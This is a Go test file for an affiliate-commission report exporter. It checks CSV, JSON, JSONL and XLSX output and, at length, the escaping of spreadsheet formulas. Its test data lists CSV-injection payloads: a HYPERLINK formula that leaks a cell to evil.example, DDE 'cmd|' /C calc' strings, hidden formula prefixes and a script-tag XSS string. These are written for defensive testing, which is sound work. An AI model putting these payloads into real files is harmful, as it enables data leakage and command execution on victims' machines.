package export_test

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"rebatedesk/affiliate"
	"rebatedesk/reports"
	"rebatedesk/reports/changes"
	"rebatedesk/reports/commissions"
	"rebatedesk/reports/export"
	"rebatedesk/reports/invitees"
	"rebatedesk/reports/payments"
	shownrates "rebatedesk/reports/rates"
	"rebatedesk/reports/reporttest"
	"rebatedesk/reports/subaffiliates"
	"rebatedesk/reports/worklist"
	stored "rebatedesk/store/payments"
	"rebatedesk/store/records"
	"rebatedesk/store/storetest"
	acts "rebatedesk/store/worklist"
)

// later is what a row has of the fields of commissions that came after the first export: what begins
// a value, and the value of an unknown one, with %s for its column.
func later(begin, value string) (text string) {
	for _, f := range affiliate.CommissionFields.After("commission") {
		text += begin + strings.ReplaceAll(value, "%s", f.Column)
	}
	return text
}

// laterSums is [later] for the sums that came after the first export; value is that of nothing to add up.
func laterSums(begin, value string) (text string) {
	for _, f := range affiliate.SummedFields.After("maker_amount") {
		text += begin + strings.ReplaceAll(value, "%s", f.Column)
	}
	return text
}

// API clients read these names.
var headers = map[*export.Kind]string{
	commissions.File:          "deal_time_utc,deal_time_ms,account,uid,invite_code,product_type,symbol,source_type,coin,taker_amount,maker_amount,fee,rate,commission,first_seen_utc" + later(",", "%s") + ",exchange,grain,until_utc",
	invitees.File:             "account,uid,invite_code,register_time_utc,kyc,first_deposit_utc,first_trade_utc,last_deposit_utc,last_trade_utc,first_seen_utc,last_seen_utc,state,days_silent,usual_gap_days,lifetime_commission,coin,at_risk,name,tags",
	subaffiliates.File:        "account,sub_affiliate_uid,product_type,date,trading_volume,net_trading_fee,paid_commission",
	commissions.DailyFile:     "date,account,product_type,coin,source_type,records,fee,commission,taker_amount,maker_amount" + laterSums(",", "%s"),
	payments.BillFile:         "time_utc,time_ms,account,wallet,bill_id,coin_id,coin,business_type,amount,balance_after,first_seen_utc",
	changes.File:              "noticed_utc,change,account,deal_time_utc,uid,invite_code,product_type,symbol,source_type,coin,commission_before,commission_after,difference",
	shownrates.File:           "account,uid,invite_code,product_type,coin,from_utc,to_utc,records,fee,agreed_rate,paid_rate,agreed_commission,commission,difference,term",
	worklist.File:             "account,uid,name,invite_code,state,reason,last_trade_utc,days_silent,usual_gap_days,days_left,at_risk,coin,at_risk_usdt,owner,snoozed_until,note",
	payments.BalanceFile:      "account,coin,earned,paid,missing,underpaid,restated,excess,balance,oldest_due_utc",
	payments.IncomeFile:       "received_utc,received_local,account,coin,amount,value_usdt,price_usdt,price_kind,price_time_utc,price_source,no_value,wallet,bill_id,business_type,kind,period_from_utc,period_to_utc",
	payments.KoinlyFile:       "Date,Sent Amount,Sent Currency,Received Amount,Received Currency,Fee Amount,Fee Currency,Net Worth Amount,Net Worth Currency,Label,Description,TxHash",
	payments.CoinTrackingFile: "Type,Buy Amount,Buy Currency,Sell Amount,Sell Currency,Fee,Fee Currency,Exchange,Trade-Group,Comment,Date",
	payments.File:             "period_from_utc,period_to_utc,account,coin,kind,earned,paid,difference,state,bills,first_paid_utc,last_paid_utc",
	payments.AccountFile:      "account,coin,time_utc,entry,kind,period_from_utc,period_to_utc,bill_id,amount,balance",
}

// everyKind stores one row of each kind, with an unknown value in each column that allows
// it.
func everyKind(t *testing.T) *reporttest.Fixture {
	d := reporttest.NewFixture(t, "UTC")
	c := reporttest.Trade(reporttest.Today, reporttest.Spot, 1, "-0.0682571")
	c.Source, c.Rate, c.MakerAmount, c.TakerAmount = affiliate.SubAgent, "", "-0.00", "98765432109876543210.000000000000000003"
	d.Read("main", reporttest.Spot, reporttest.Days(0, 0), c)
	d.ReadInvitees("main", reporttest.Days(0, 0), affiliate.Invitee{
		UID: "4667776801", InviteCode: "spring", RegisterTime: reporttest.Midnight(reporttest.Today), KYC: affiliate.FlagOf(false), FirstTrade: reporttest.Midnight(reporttest.Today) + 1})
	_, err := records.ReplaceSubAffiliateDays(t.Context(), d.DB,
		d.Slice("main", affiliate.Stream{Kind: affiliate.SubAffiliates, Product: affiliate.Futures}, reporttest.Days(0, 0)),
		[]affiliate.SubAffiliateDay{{UID: "77", Product: affiliate.Futures, Date: reporttest.Today, TradingVolume: "1.50", PaidCommission: "-3"}})
	if err != nil {
		t.Fatal(err)
	}
	_, err = stored.ReplaceBills(t.Context(), d.DB, d.Slice("main", affiliate.Stream{Kind: affiliate.SpotBills}, reporttest.Days(0, 0)), []affiliate.Bill{
		{Wallet: affiliate.SpotWallet, ID: "0071", CoinID: "2", Coin: "USDT", Business: "deposit", Amount: "0.50", Created: reporttest.Midnight(reporttest.Today) + 5}})
	if err != nil {
		t.Fatal(err)
	}
	d.Agree("scope,value,product_type,rate,from,to", "uid,4667776801,,0.40,2026-09-01,")
	d.Now = d.Now.AddDate(0, 0, -1) // a next date is set the day before
	_, err = d.Service.DoWork(t.Context(), acts.Work{Account: "main", UID: "4667776801", Note: "=1+1",
		Acts: []acts.Act{{Kind: acts.ActPlanned, Day: reporttest.Today}, {Kind: acts.ActAssigned, Owner: "bob"}}}, reporttest.Manager)
	if err != nil {
		t.Fatal(err)
	}
	d.Now = d.Now.AddDate(0, 0, 1)
	return d
}

// Each kind is compared byte by byte, with numbers as the exchange sent them.
func TestFormats(t *testing.T) {
	d := everyKind(t)
	rows := map[*export.Kind][2]string{
		commissions.File: {
			"2026-09-15T01:00:00.000Z,1789434000000,main,4667776801,spring,SPOT,BTCUSDT,sub,USDT,98765432109876543210.000000000000000003,-0.00,1,,-0.0682571,2026-09-15T12:00:00.000Z" + later(",", "") + ",,,",
			`{"deal_time_utc":"2026-09-15T01:00:00.000Z","deal_time_ms":1789434000000,"account":"main","uid":"4667776801","invite_code":"spring","product_type":"SPOT","symbol":"BTCUSDT","source_type":"sub","coin":"USDT","taker_amount":"98765432109876543210.000000000000000003","maker_amount":"-0.00","fee":"1","rate":null,"commission":"-0.0682571","first_seen_utc":"2026-09-15T12:00:00.000Z"` + later(`,"`, `%s":null`) + `,"exchange":null,"grain":null,"until_utc":null}`},
		invitees.File: {
			"main,4667776801,spring,2026-09-15T00:00:00.000Z,false,,2026-09-15T00:00:00.001Z,,,2026-09-15T12:00:00.001Z,2026-09-15T12:00:00.001Z,new,0,,-0.0682571,USDT,,,",
			`{"account":"main","uid":"4667776801","invite_code":"spring","register_time_utc":"2026-09-15T00:00:00.000Z","kyc":false,"first_deposit_utc":null,"first_trade_utc":"2026-09-15T00:00:00.001Z","last_deposit_utc":null,"last_trade_utc":null,"first_seen_utc":"2026-09-15T12:00:00.001Z","last_seen_utc":"2026-09-15T12:00:00.001Z","state":"new","days_silent":0,"usual_gap_days":null,"lifetime_commission":"-0.0682571","coin":"USDT","at_risk":null,"name":null,"tags":null}`},
		subaffiliates.File: {
			"main,77,FUTURES,2026-09-15,1.50,,-3",
			`{"account":"main","sub_affiliate_uid":"77","product_type":"FUTURES","date":"2026-09-15","trading_volume":"1.50","net_trading_fee":null,"paid_commission":"-3"}`},
		commissions.DailyFile: {
			"2026-09-15,main,SPOT,USDT,sub,1,1,-0.0682571,98765432109876543210.000000000000000003,0" + laterSums(",", "0"),
			`{"date":"2026-09-15","account":"main","product_type":"SPOT","coin":"USDT","source_type":"sub","records":1,"fee":"1","commission":"-0.0682571","taker_amount":"98765432109876543210.000000000000000003","maker_amount":"0"` + laterSums(",", `"%s":"0"`) + `}`},
	}
	rows[payments.BillFile] = [2]string{
		"2026-09-15T00:00:00.005Z,1789430400005,main,spot,0071,2,USDT,deposit,0.50,,2026-09-15T12:00:00.003Z",
		`{"time_utc":"2026-09-15T00:00:00.005Z","time_ms":1789430400005,"account":"main","wallet":"spot","bill_id":"0071","coin_id":"2","coin":"USDT","business_type":"deposit","amount":"0.50","balance_after":null,"first_seen_utc":"2026-09-15T12:00:00.003Z"}`}
	rows[payments.File] = [2]string{
		"2026-09-15T00:00:00.000Z,2026-09-16T00:00:00.000Z,main,USDT,all,-0.0682571,0,0.0682571,pending,0,,",
		`{"period_from_utc":"2026-09-15T00:00:00.000Z","period_to_utc":"2026-09-16T00:00:00.000Z","account":"main","coin":"USDT","kind":"all","earned":"-0.0682571","paid":"0","difference":"0.0682571","state":"pending","bills":0,"first_paid_utc":null,"last_paid_utc":null}`}
	rows[payments.BalanceFile], rows[payments.AccountFile] = [2]string{}, [2]string{} // nothing is due here: acceptance/money has their rows
	for _, kind := range []*export.Kind{payments.IncomeFile, payments.KoinlyFile, payments.CoinTrackingFile} {
		rows[kind] = [2]string{} // nothing is paid here: reports/payments has their rows
	}
	rows[changes.File] = [2]string{
		"2026-09-15T12:00:00.000Z,new,main,2026-09-15T01:00:00.000Z,4667776801,spring,SPOT,BTCUSDT,sub,USDT,,-0.0682571,-0.0682571",
		`{"noticed_utc":"2026-09-15T12:00:00.000Z","change":"new","account":"main","deal_time_utc":"2026-09-15T01:00:00.000Z","uid":"4667776801","invite_code":"spring","product_type":"SPOT","symbol":"BTCUSDT","source_type":"sub","coin":"USDT","commission_before":null,"commission_after":"-0.0682571","difference":"-0.0682571"}`}
	rows[shownrates.File] = [2]string{
		"main,4667776801,spring,SPOT,USDT,2026-09-15T01:00:00.000Z,2026-09-15T01:00:00.000Z,1,1,0.4,,0.4,-0.0682571,-0.4682571,1",
		`{"account":"main","uid":"4667776801","invite_code":"spring","product_type":"SPOT","coin":"USDT","from_utc":"2026-09-15T01:00:00.000Z","to_utc":"2026-09-15T01:00:00.000Z","records":1,"fee":"1","agreed_rate":"0.4","paid_rate":null,"agreed_commission":"0.4","commission":"-0.0682571","difference":"-0.4682571","term":"1"}`}
	rows[worklist.File] = [2]string{
		"main,4667776801,,spring,new,next-date,2026-09-15T01:00:00.000Z,0,,,,,,bob,,'=1+1",
		`{"account":"main","uid":"4667776801","name":null,"invite_code":"spring","state":"new","reason":"next-date","last_trade_utc":"2026-09-15T01:00:00.000Z","days_silent":0,"usual_gap_days":null,"days_left":null,"at_risk":null,"coin":null,"at_risk_usdt":null,"owner":"bob","snoozed_until":null,"note":"=1+1"}`}
	if kinds := reports.ExportKinds(); len(kinds) != len(rows) {
		t.Errorf("the kinds are %v", kinds)
	}
	for kind, row := range rows {
		if row[0] == "" {
			continue
		}
		for format, want := range map[export.Format]string{
			export.CSV:   headers[kind] + "\r\n" + row[0] + "\r\n",
			export.JSON:  row[1],
			export.JSONL: row[1] + "\n",
		} {
			text, summary := d.Export(kind, format, d.AskFor(kind, "range=today"+ever(kind)))
			if format == export.JSON {
				text = betweenRows(t, text)
			}
			if text != want || summary.Rows != 1 {
				t.Errorf("%s %s, %d rows:\n%s\nwant\n%s", kind, format, summary.Rows, text, want)
			}
		}
	}
}

// ever returns the parameter that a kind needs to list what became known at any time.
func ever(kind *export.Kind) string {
	if kind == changes.File {
		return "&since=2026-01-01"
	}
	return ""
}

// betweenRows returns the text between the brackets of the rows of a JSON export.
func betweenRows(t *testing.T, text string) string {
	t.Helper()
	_, rows, begun := strings.Cut(text, `"rows":[`)
	rows, _, ended := strings.Cut(rows, `],"row_count":`)
	if !begun || !ended || !json.Valid([]byte(text)) {
		t.Fatalf("no export: %s", text)
	}
	return strings.TrimSpace(rows)
}

// The object around the rows is compared byte by byte.
func TestJSONFacts(t *testing.T) {
	d := everyKind(t)
	d.Read("main", reporttest.Futures, reporttest.Days(0, 0))
	text, _ := d.Export(commissions.DailyFile, export.JSON, d.Ask("range=today&product=SPOT&page=2"))
	before, _, _ := strings.Cut(text, `"rows":[`)
	_, after, _ := strings.Cut(text, "\n],")
	if want := `{"kind":"daily","from":"2026-09-15","to":"2026-09-15","timezone":"UTC","filters":"product=SPOT","sort":"-time","complete":true,` +
		`"days_collected":1,"days":1,"collected_through":"2026-09-15T12:00:00.000Z","written":"2026-09-15T12:00:00Z","columns":[` +
		`{"name":"date","type":"day"},{"name":"account","type":"text"},{"name":"product_type","type":"text"},{"name":"coin","type":"text"},` +
		`{"name":"source_type","type":"text"},{"name":"records","type":"integer"},{"name":"fee","type":"decimal"},{"name":"commission","type":"decimal"},` +
		`{"name":"taker_amount","type":"decimal"},{"name":"maker_amount","type":"decimal"}` + laterSums(",", `{"name":"%s","type":"decimal"}`) + `],`; before != want {
		t.Errorf("before the rows:\n%s\nwant\n%s", before, want)
	}
	if want := `"row_count":1,"sums":[{"coin":"USDT","rows":1,"records":"1","fee":"1","commission":"-0.0682571",` +
		`"taker_amount":"98765432109876543210.000000000000000003","maker_amount":"0"` + laterSums(",", `"%s":"0"`) + `}]}` + "\n"; after != want {
		t.Errorf("after the rows:\n%s\nwant\n%s", after, want)
	}
}

func TestEmptyExports(t *testing.T) {
	d := reporttest.NewFixture(t, "UTC")
	for _, kind := range reports.ExportKinds() {
		for format, want := range map[export.Format]string{export.CSV: headers[kind] + "\r\n", export.JSON: "", export.JSONL: "", export.XLSX: headers[kind]} {
			text, summary := d.Export(kind, format, d.AskFor(kind, "range=all"+ever(kind)))
			switch format {
			case export.JSON:
				text = betweenRows(t, text)
			case export.XLSX:
				rows := reporttest.Workbook(t, text).SheetXML(kind.Name)
				text = strings.Join(rows[0], ",")
				if len(rows) != 1 {
					t.Errorf("%s: %d rows", kind, len(rows))
				}
			}
			if text != want || summary.Rows != 0 || len(summary.Sums) != 0 {
				t.Errorf("%s %s of nothing: %q, %+v", kind, format, text, summary)
			}
		}
	}
}

// formulas lists texts that some spreadsheet executes.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
	"＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b+1",
}

// hidden maps formulas after a character that some spreadsheets take for the border of a
// cell to their written form.
var hidden = map[string]string{
	"x;=1+1;y": "x;'=1+1;y", "x\t@SUM(1)": "x\t'@SUM(1)", "a| -1": "a|' -1", "a\n=1": "a\n'=1", ";=1": ";'=1", "=1;=2": "'=1;'=2",
}

func TestHiddenFormulas(t *testing.T) {
	d := reporttest.NewFixture(t, "UTC")
	var records []affiliate.Commission
	for text := range hidden {
		c := reporttest.Trade(reporttest.Today, reporttest.Spot, len(records), "1")
		c.Symbol = text
		records = append(records, c)
	}
	d.Read("main", reporttest.Spot, reporttest.Days(0, 0), records...)
	text, _ := d.Export(commissions.File, export.CSV, d.Ask("range=today"))
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(lines) != len(hidden)+1 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	written := map[string]bool{}
	for _, line := range lines[1:] {
		written[line[6]] = true
	}
	for text, want := range hidden {
		if !written[want] {
			t.Errorf("%q is not written as %q: %v", text, want, written)
		}
	}
}

// harmless lists texts that are written unchanged.
var harmless = []string{
	"", "spring", "a=b", "a-b", "1+1", "'quoted'", `say "hi"`, `"`, `""`, "a,b", ",", "a\nb", "a\r\nb", "a\rb", " padded ", "日本語", "🦜",
	"\u202eabc", "</script><script>alert(1)</script>", "<b>&amp;", "\u2028", `\`, `\.`, "null", "0012",
}

// Text is read back unchanged, except for a mark in front of a formula.
func TestTextSurvives(t *testing.T) { storetest.Engines(t, "texts with odd bytes", testTextSurvives) }

func testTextSurvives(t *testing.T) {
	d := reporttest.NewFixture(t, "UTC")
	texts := slices.Concat(formulas, harmless)
	var records []affiliate.Commission
	for i, text := range texts {
		c := reporttest.Trade(reporttest.Today, reporttest.Spot, i, "-1.5")
		c.Symbol, c.Fee, c.DealTime = text, "-0.1", c.DealTime+affiliate.Millis(i)
		records = append(records, c)
	}
	d.Read("main", reporttest.Spot, reporttest.Days(0, 0), records...)
	q := d.Ask("range=today&sort=time")

	text, _ := d.Export(commissions.File, export.CSV, q)
	if ends := strings.Count(text, "Z"+later(",", "")+",,,\r\n"); ends != len(texts) || strings.Contains(text, "Z\n") {
		t.Errorf("%d of %d lines end in CRLF", ends, len(texts))
	}
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(lines) != len(texts)+1 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	for i, line := range lines[1:] {
		want := strings.ReplaceAll(texts[i], "\r\n", "\n") // as the CSV reader of Go returns it
		if i < len(formulas) {
			want = "'" + want
		}
		if line[6] != want || line[11] != "-0.1" || line[13] != "-1.5" {
			t.Errorf("%q is read as %q, fee %s, commission %s", texts[i], line[6], line[11], line[13])
		}
	}
	for _, cell := range []string{"\"a\r\nb\"", "\"a\nb\"", "\"a\rb\"", "\"'\r=1+1\""} {
		if !strings.Contains(text, ","+cell+",") {
			t.Errorf("the cell %q was changed", cell)
		}
	}

	text, _ = d.Export(commissions.File, export.JSON, q)
	var objects []struct {
		Symbol     *string
		Commission string
	}
	if err := json.Unmarshal([]byte("["+betweenRows(t, text)+"]"), &objects); err != nil || len(objects) != len(texts) {
		t.Fatalf("%d objects, %v", len(objects), err)
	}
	lined, _ := d.Export(commissions.File, export.JSONL, q)
	if n := strings.Count(lined, "\n"); n != len(texts) {
		t.Errorf("%d lines with %d objects", n, len(texts))
	}
	if strings.Contains(text, "</script>") {
		t.Error("the JSON contains the end tag of a script")
	}
	for i, o := range objects {
		if texts[i] == "" && o.Symbol != nil || texts[i] != "" && (o.Symbol == nil || *o.Symbol != texts[i]) || o.Commission != "-1.5" {
			t.Errorf("%q is read as %v, %s", texts[i], o.Symbol, o.Commission)
		}
	}
}

// Every column with text from outside is guarded.
func TestFormulasInEveryTextColumn(t *testing.T) {
	d := reporttest.NewFixture(t, "UTC")
	const evil = "=1+1"
	c := reporttest.Trade(reporttest.Today, reporttest.Spot, 1, "1")
	c.UID, c.Symbol, c.Source, c.Coin = evil, evil, evil, evil
	d.Read(evil, reporttest.Spot, reporttest.Days(0, 0), c)
	d.ReadInvitees(evil, reporttest.Days(0, 0), affiliate.Invitee{UID: evil, InviteCode: evil, RegisterTime: reporttest.Midnight(reporttest.Today)})
	_, err := records.ReplaceSubAffiliateDays(t.Context(), d.DB,
		d.Slice(evil, affiliate.Stream{Kind: affiliate.SubAffiliates, Product: affiliate.Spot}, reporttest.Days(0, 0)),
		[]affiliate.SubAffiliateDay{{UID: evil, Product: affiliate.Spot, Date: reporttest.Today, TradingVolume: "-1"}})
	if err != nil {
		t.Fatal(err)
	}
	for kind, cells := range map[*export.Kind]int{
		commissions.File: 6, invitees.File: 4, subaffiliates.File: 2, commissions.DailyFile: 3,
	} {
		text, _ := d.Export(kind, export.CSV, d.Ask("range=today"))
		if guarded, all := strings.Count(text, "'"+evil), strings.Count(text, evil); guarded != cells || all != cells {
			t.Errorf("%s: %d of %d cells are guarded, want %d:\n%s", kind, guarded, all, cells, text)
		}
		if strings.Contains(text, "'-") {
			t.Errorf("%s: a number is guarded:\n%s", kind, text)
		}
	}
}

func TestContentTypes(t *testing.T) {
	for format, want := range map[export.Format]string{
		export.CSV: "text/csv; charset=utf-8; header=present", export.XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", export.JSON: "application/json; charset=utf-8", export.JSONL: "application/jsonl; charset=utf-8",
	} {
		if got := format.ContentType(); got != want {
			t.Errorf("%s is %s, want %s", format, got, want)
		}
	}
}

// A failed write ends an export with its error, with any buffering.
func TestExportIntoABrokenPipe(t *testing.T) {
	d := reporttest.NewFixture(t, "UTC")
	var records []affiliate.Commission
	for i := range 2000 {
		records = append(records, reporttest.Trade(reporttest.Today, reporttest.Spot, i, "1"))
	}
	d.Read("main", reporttest.Spot, reporttest.Days(0, 0), records...)
	for _, format := range []export.Format{export.CSV, export.XLSX, export.JSON, export.JSONL} {
		for _, room := range []int{0, 20_000} {
			e := d.Open(commissions.File, d.Ask("range=today"))
			if _, err := e.Write(t.Context(), &reporttest.ClosedPipe{Left: room}, format); !errors.Is(err, reporttest.ErrPipe) {
				t.Errorf("%s with room for %d bytes: %v", format, room, err)
			}
			if err := e.Close(); err != nil {
				t.Error(err)
			}
		}
	}
	e := d.Open(commissions.File, d.Ask("range=today"))
	defer e.Close()
	if _, err := e.Write(t.Context(), io.Discard, "xml"); err == nil || !strings.Contains(err.Error(), "xml") {
		t.Errorf("xml: %v", err)
	}
}
